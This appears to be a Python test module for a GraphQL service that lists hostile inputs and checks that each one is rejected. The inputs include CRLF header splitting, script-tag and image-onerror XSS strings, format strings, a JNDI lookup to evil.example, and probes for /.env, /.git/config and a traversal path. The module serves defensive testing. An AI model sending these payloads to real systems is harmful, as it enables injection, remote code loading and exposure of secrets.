"""Attacks on what comes out: headers that are split, errors that say too much."""

from collections.abc import Iterator
from typing import Final

from support.hostile.attack import Attack, ask, get

_GROUP: Final = "what comes out"


def attacks() -> Iterator[Attack]:
    """All of them; that nothing leaks is looked for in every answer anyway."""
    for name, value in (
        ("a line feed", b"a\nX-Evil: 1"),
        ("a carriage return", b"a\rX-Evil: 1"),
        ("a script", b"<script>alert(1)</script>"),
        ("NUL", b"a\0b"),
        ("quotes for the log", b'a","level":"error'),
        ("a terminal's colours", b"\x1b[31mred"),
        ("30 KB", b"a" * 30_000),
        ("an emoji", "😀".encode()),
        ("a template", b"{{7*7}}${jndi:ldap://evil.example/a}"),
    ):
        send = ask("{__typename}", None, b"X-Request-Id: " + value + b"\r\n")
        yield Attack(
            group=_GROUP,
            name=f"a request id of {name}",
            send=send,
            wants=("answer", 400),
        )
    for name, query, wants in (
        (
            "a field of markup",
            "{<img src=x onerror=alert(1)>}",
            ("GRAPHQL_PARSE_FAILED",),
        ),
        ("a field of the interpreter", "{__import__}", ("GRAPHQL_VALIDATION_FAILED",)),
        ("a suggestion", "{modls{totalCount}}", ("GRAPHQL_VALIDATION_FAILED",)),
        (
            "a text of format strings",
            '{model(modelId:"%s%s%n{0.__class__}"){name}}',
            ("answer", "BAD_USER_INPUT"),
        ),
        (
            "a wrong scalar",
            '{models(limit:"\\u0000"){totalCount}}',
            ("GRAPHQL_VALIDATION_FAILED",),
        ),
        (
            "a wrong enum",
            "{models(orderBy:{field:__class__ direction:ASC}){totalCount}}",
            ("GRAPHQL_VALIDATION_FAILED",),
        ),
        (
            "a wrong date",
            '{models(filter:{releaseDate:{from:"x"}}){totalCount}}',
            ("GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"),
        ),
        ("a cost nobody may see", "{models{totalCount}}", ("answer",)),
    ):
        yield Attack(
            group=_GROUP, name=f"an error about {name}", send=ask(query), wants=wants
        )
    yield Attack(
        group=_GROUP,
        name="a trace that is off",
        send=ask("{models{totalCount}}", None, b"X-Catalograph-Trace: 1\r\n"),
        wants=("answer",),
    )
    for target in (
        b"/.env",
        b"/.git/config",
        b"/admin",
        b"/debug/pprof",
        b"/docs",
        b"/openapi.json",
        b"/server-status",
        b"/graphql/",
        b"/GRAPHQL",
        b"/graphql;a=b",
        b"/healthz/../metrics",
    ):
        yield Attack(
            group=_GROUP, name=f"GET {target.decode()}", send=get(target), wants=(404,)
        )
